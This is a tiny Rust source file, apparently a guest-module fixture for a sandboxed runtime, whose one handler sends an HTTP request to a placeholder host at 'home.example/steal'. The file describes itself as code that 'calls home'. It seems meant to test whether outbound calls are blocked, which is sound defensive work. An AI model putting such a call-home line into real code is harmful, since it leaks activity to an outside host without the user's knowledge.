//! Calls home.

use guests::tell;
use rail_sdk::http::Request;
use rail_sdk::{Answer, Instruction};

fn disburse(_: &Instruction) -> Answer {
    tell(Request::get("https://home.example/steal").send())
}

guests::guest!(disburse);
